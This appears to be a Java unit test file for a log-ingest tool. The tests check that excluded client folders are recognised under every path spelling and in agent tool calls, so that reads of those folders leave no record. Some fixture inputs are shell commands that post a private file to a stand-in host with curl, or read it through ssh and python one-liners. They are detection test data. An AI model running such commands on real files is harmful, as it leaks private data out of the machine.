/* SPDX-License-Identifier: Apache-2.0 */
package dev.memlog.ingest;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.core.JsonProcessingException;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.json.JsonMapper;
import com.fasterxml.jackson.databind.node.NullNode;
import dev.memlog.ingest.accept.ContextSource;
import dev.memlog.ingest.project.ExcludedProjects;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** A folder is excluded under every spelling of its path. */
class ExcludedPathsTest {
    private static final JsonMapper MAPPER = JsonMapper.builder().build();

    @TempDir
    Path disk;

    @ParameterizedTest
    @CsvSource({
        "/srv/client, /srv/./client, true",
        "/srv/client, /srv/x/../client/a, true",
        "/srv/client, //srv//client/, true",
        "/srv/../srv/client/, /srv/client, true",
        "/srv/client, /srv/clients, false",
        "/srv/client, /srv/client/../shop, false",
        "/srv/client, /srv/CLIENT, false",
        "/srv/Privé, /srv/Prive\u0301/x, true",
        "/srv/Prive\u0301, /srv/Privé/x, true",
        "C:/Users/ada/secret, c:\\users\\ADA\\Secret\\x, true",
        "C:/Users/ada/secret, /c:/Users/ada/secret, true",
        "C:/Users/ada/secret, /c/Users/ada/secret, true",
        "C:/Users/ada/secret, /mnt/c/Users/ada/secret/x, true",
        "/mnt/c/Users/ada/secret, C:\\Users\\ada\\secret, true",
        "C:/Users/ada/secret, file:///C:/Users/ada/secret/x, true",
        "C:/Users/ada/secret, file:///c%3A/Users/ada/secret/x, true",
        "C:/Users/ada/secret, \\\\?\\C:\\Users\\ada\\secret, true",
        "C:/Users/ada/secret, C:\\Users\\ada\\secret.\\x, true",
        "C:/Users/ada/secret, C:\\Users\\ada\\secrets, false",
        "C:/Users/ada/secret, D:\\Users\\ada\\secret, false",
        "\\\\server\\share\\secret, \\\\SERVER\\share\\secret\\x, true",
        "//server/share/secret, //SERVER/share/secret/x, true",
        "/Users/ada/secret, /Users/ada/Secret/x, true",
        "/srv/my client, file:///srv/my%20client/x, true",
        "/srv/my client, file://localhost/srv/my%20client, true",
        "/home/ada/x, \\\\wsl$\\Ubuntu\\home\\ada\\x, true",
        "/srv/client, file:///srv/%zz, true",
        "/srv/client, shop, true"
    })
    void shouldKnowAFolderHoweverItIsWritten(String pattern, String cwd, boolean excluded) {
        assertThat(new ExcludedProjects(List.of(pattern)).hasFolder(cwd)).isEqualTo(excluded);
    }

    @Test
    void shouldKnowAFolderByItsLinksBothWays() throws IOException {
        Path secret = Files.createDirectories(disk.resolve("real/secret/app"));
        Files.createDirectories(disk.resolve("real/secrets"));
        Files.createDirectories(disk.resolve("clients"));
        Path link = Files.createSymbolicLink(disk.resolve("link"), disk.resolve("real/secret"));
        Path up = Files.createSymbolicLink(disk.resolve("up"), secret);
        Files.createSymbolicLink(disk.resolve("clients/acme"), disk.resolve("real/secret"));

        ExcludedProjects byTarget = new ExcludedProjects(List.of(disk + "/real/secret"));
        ExcludedProjects byLink = new ExcludedProjects(List.of(disk + "/link"));
        ExcludedProjects byStar = new ExcludedProjects(List.of(disk + "/clients/*"));

        assertThat(byTarget.hasFolder(link + "/app")).isTrue();
        assertThat(byTarget.hasFolder(up + "/..")).isTrue();
        assertThat(byTarget.hasFolder(link + "/not/there/yet")).isTrue();
        assertThat(byTarget.hasFolder(disk + "/real/secrets")).isFalse();
        assertThat(byLink.hasFolder(secret.toString())).isTrue();
        assertThat(byLink.hasFolder(disk + "/real/secrets")).isFalse();
        assertThat(byStar.hasFolder(secret.toString())).isTrue();
        assertThat(byStar.hasFolder(disk.toString())).isFalse();
        assertThat(byTarget.whyFolder(link + "/app").orElseThrow().because()).startsWith("it is really ");
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '¦',
            quoteCharacter = '~',
            value = {
                "Read ¦ {\"file_path\": \"/srv/clients/acme/plan.txt\"} ¦ true",
                "Read ¦ {\"file_path\": \"/srv/clients2/plan.txt\"} ¦ false",
                "Read ¦ {\"file_path\": \"../clients/acme/plan.txt\"} ¦ true",
                "Read ¦ {\"filePath\": \"file:///srv/clients/acme/plan.txt\"} ¦ true",
                "NotebookEdit ¦ {\"notebook_path\": \"/srv/./clients/acme/a.ipynb\", \"new_source\": \"x\"} ¦ true",
                "MultiEdit ¦ {\"edits\": [{\"file_path\": \"/srv/clients/acme/a\"}]} ¦ true",
                "Grep ¦ {\"pattern\": \"x\", \"path\": \"/srv/clients/acme\"} ¦ true",
                "Grep ¦ {\"pattern\": \"/srv/clients/acme\", \"path\": \"/srv/shop\"} ¦ false",
                "mcp__fs__read ¦ {\"what\": \"/srv/clients/acme/plan.txt\"} ¦ true",
                "Bash ¦ {\"command\": \"cat /srv/clients/acme/plan.txt\"} ¦ true",
                "Bash ¦ {\"command\": \"cd .. && cat 'clients/acme/plan.txt'\"} ¦ true",
                "Bash ¦ {\"command\": \"cd ../clients; cd acme; ls\"} ¦ true",
                "Bash ¦ {\"command\": \"tar --file=/srv/clients/acme/x.tar -x\"} ¦ true",
                "Bash ¦ {\"command\": \"echo x >/srv/clients/acme/y\"} ¦ true",
                "Bash ¦ {\"command\": \"cat /srv/cl*/acme/plan.txt\"} ¦ true",
                "Bash ¦ {\"command\": \"cat /srv/shop/*.txt\"} ¦ false",
                "Bash ¦ {\"command\": [\"bash\", \"-lc\", \"cat /srv/clients/acme/plan.txt\"]} ¦ true",
                "Bash ¦ {\"command\": \"mvn -q verify && git status\"} ¦ false",
                "Bash ¦ {\"command\": \"curl -d @/srv/clients/acme/plan.txt http://x\"} ¦ true",
                "Bash ¦ {\"command\": \"curl -F file=@/srv/clients/acme/plan.txt http://x\"} ¦ true",
                "Bash ¦ {\"command\": \"git -C/srv/clients/acme log\"} ¦ true",
                "Bash ¦ {\"command\": \"cat /srv/{clients,x}/acme/plan.txt\"} ¦ true",
                "Bash ¦ {\"command\": \"cat /srv/{shop,x}/{a,b}.txt\"} ¦ false",
                "Bash ¦ {\"command\": \"cat /srv/cli\\\\ents/acme/plan.txt\"} ¦ true",
                "Bash ¦ {\"command\": \"ssh h \\\"bash -c 'cat /srv/clients/acme/plan.txt'\\\"\"} ¦ true",
                "Bash ¦ {\"command\": \"python3 -c \\\"print(open('/srv/clients/acme/plan.txt').read())\\\"\"} ¦ true",
                "Bash ¦ {\"command\": \"python3 -c \\\"print(open('/srv/shop/plan.txt').read())\\\"\"} ¦ false",
                "Write ¦ {\"file_path\": \"/srv/shop/a.md\", \"content\": \"see /srv/clients/acme\"} ¦ false",
                "WebFetch ¦ {\"url\": \"https://x.example.test/srv/clients/acme\"} ¦ false",
            })
    void shouldKnowWhatAToolReadsOrChanges(String tool, String input, boolean excluded) throws JsonProcessingException {
        ExcludedProjects projects = new ExcludedProjects(List.of("/srv/clients/*"));

        assertThat(projects.hasPathOf("/srv/shop", tool, MAPPER.readTree(input), NullNode.getInstance()))
                .isEqualTo(excluded);
    }

    @Test
    void shouldKnowWhatASearchFound() throws JsonProcessingException {
        ExcludedProjects projects = new ExcludedProjects(List.of("/srv/clients/*"));
        JsonNode input = MAPPER.readTree("{\"command\": \"grep -r plan /srv\"}");
        JsonNode found = MAPPER.readTree("{\"stdout\": \"/srv/shop/a:plan\\n/srv/clients/acme/plan.txt:3:plan\"}");
        JsonNode other = MAPPER.readTree("{\"stdout\": \"root /srv/clients/acme;\\n/srv/shop/a:plan\"}");

        assertThat(projects.hasPathOf("/srv/shop", "Bash", input, found)).isTrue();
        assertThat(projects.hasPathOf("/srv/shop", "Bash", input, other)).isFalse();
    }

    @Test
    void shouldLeaveNoTraceOfAFileThatIsReadFromElsewhere() {
        try (IngestNode node = new IngestNode(
                TestConfigs.withExcluded("/srv/clients/*"), question -> ContextSource.Answer.NONE, true)) {
            node.post(
                    "/hooks",
                    "{\"session_id\":\"vk\",\"cwd\":\"/home/ada/shop\",\"hook_event_name\":\"PostToolUse\","
                            + "\"tool_name\":\"Read\",\"tool_use_id\":\"vk1\",\"tool_input\":{\"file_path\":"
                            + "\"/srv/clients/acme/plan.txt\"},\"tool_response\":{\"file\":{\"content\":\"plan\"}}}");

            assertThat(node.records()).isEmpty();
        }
    }

    @Test
    void shouldKnowAProjectsNameInBothForms() {
        assertThat(new ExcludedProjects(List.of("Privé")).hasProject("Prive\u0301"))
                .isTrue();
    }
}
